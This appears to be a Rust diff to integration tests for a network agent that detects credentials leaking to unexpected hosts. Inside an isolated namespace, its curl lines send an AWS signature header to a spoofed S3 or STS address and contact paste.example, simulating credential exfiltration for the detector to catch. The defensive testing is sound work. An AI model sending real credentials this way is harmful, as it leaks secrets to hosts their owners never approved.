@@ -2,7 +2,7 @@
 
 use anyhow::{Context as _, Result, ensure};
 use base64::{Engine as _, engine::general_purpose::STANDARD};
-use lab::{agent::Agent, client, wait_for, web::WebServer};
+use lab::{agent::Agent, client, wait_for, web::WebServer, workload::TestUnit};
 use std::{
     process::Command,
     sync::{LazyLock, Mutex, MutexGuard},
@@ -62,7 +62,18 @@ impl PlaintextLab {
 /// Runs a shell script in a network namespace in which 10.99.0.1 and 10.99.0.2 are local, with a
 /// server on port 8080.
 fn in_network(script: &str) -> Command {
-    const SETUP: &str = "set -e; ip link set lo up; ip addr add 10.99.0.1/32 dev lo; ip addr add 10.99.0.2/32 dev lo
+    let mut command = Command::new("bash");
+    command.args(["-c", UNSHARED]);
+    command.env("SCRIPT", with_servers(script));
+    command
+}
+
+/// The PID namespace ends any process that the script leaves behind.
+const UNSHARED: &str = "exec unshare --net --mount --pid --fork --kill-child bash -c \"$SCRIPT\"";
+
+/// A script after what starts a server at several addresses.
+fn with_servers(script: &str) -> String {
+    const SETUP: &str = "set -e; ip link set lo up; ip addr add 10.99.0.1/32 dev lo; ip addr add 10.99.0.2/32 dev lo; ip addr add 10.99.0.3/32 dev lo
 python3 -c '
 import http.server, os
 server = http.server.ThreadingHTTPServer((\"0.0.0.0\", 8080), http.server.SimpleHTTPRequestHandler)
@@ -72,20 +83,7 @@ os.chdir(\"/nonexistent\" if os.path.isdir(\"/nonexistent\") else \"/proc/self/f
 server.serve_forever()
 ' >/dev/null 2>&1
 ";
-    let mut command = Command::new("unshare");
-    // The PID namespace ends any process that the script leaves behind.
-    command
-        .args([
-            "--net",
-            "--mount",
-            "--pid",
-            "--fork",
-            "--kill-child",
-            "bash",
-            "-c",
-        ])
-        .arg(format!("{SETUP}{script}"));
-    command
+    format!("{SETUP}{script}")
 }
 
 fn run(command: &mut Command) -> Result<String> {
@@ -231,17 +229,24 @@ echo nameserver 127.0.0.1 > /tmp/keytrail-resolv.$$; mount --bind /tmp/keytrail-
     let sigv4 = format!(
         "Authorization: AWS4-HMAC-SHA256 Credential={key}/20260101/eu/s3/aws4_request, SignedHeaders=host, Signature=00"
     );
-    run(&mut in_network(&format!(
+    // A unit with a network of its own, as a service manager sets it up.
+    let unit = TestUnit::new("keytrail-apart.service")?;
+    let run_apart = |script: &str| run(unit.command(UNSHARED).env("SCRIPT", with_servers(script)));
+    run_apart(&format!(
         "{names}
 curl -sS -o /dev/null -H '{sigv4}' http://s3.eu-west-1.amazonaws.com:8080/
 curl -sS -o /dev/null http://paste.example:8080/
 curl -sS -o /dev/null --resolve s3.eu-west-1.amazonaws.com:8080:10.99.0.2 -H '{sigv4}' http://s3.eu-west-1.amazonaws.com:8080/"
-    )))?;
+    ))?;
+    // A process that started after the first answer, and asks nobody.
+    run_apart(&format!(
+        "curl -sS -o /dev/null --resolve sts.amazonaws.com:8080:10.99.0.3 -H '{sigv4}' http://sts.amazonaws.com:8080/"
+    ))?;
     let id = scene.agent.id_of(key)?;
     let answer = scene.agent.await_json(&["query", "where", &id], |answer| {
         answer["hops"]
             .as_array()
-            .is_some_and(|hops| hops.len() == 2)
+            .is_some_and(|hops| hops.len() == 3)
     })?;
     let verdict = |address: &str| {
         answer["hops"]
@@ -257,6 +262,15 @@ curl -sS -o /dev/null --resolve s3.eu-west-1.amazonaws.com:8080:10.99.0.2 -H '{s
     assert_eq!(lying, "unexpected");
     assert_eq!(destination["disputed"][0]["name"], "paste.example");
     assert_eq!(destination["disputed"][0]["name_source"], "dns");
+    let (claimed, destination) = verdict("10.99.0.3").context("that of a name never asked for")?;
+    assert_eq!(claimed, "unproven");
+    assert_eq!(destination["disputed"][0]["name"], "?");
+    scene.agent.await_finding(|finding| {
+        let also = finding["also"].as_array().into_iter().flatten();
+        finding["rule"] == "cleartext-credential"
+            && also.into_iter().any(|rule| rule == "unexpected-hop")
+            && finding["destination"]["address"] == "10.99.0.3"
+    })?;
     scene.agent.await_finding(|finding| {
         finding["rule"] == "unexpected-hop"
             && finding["severity"] == "critical"
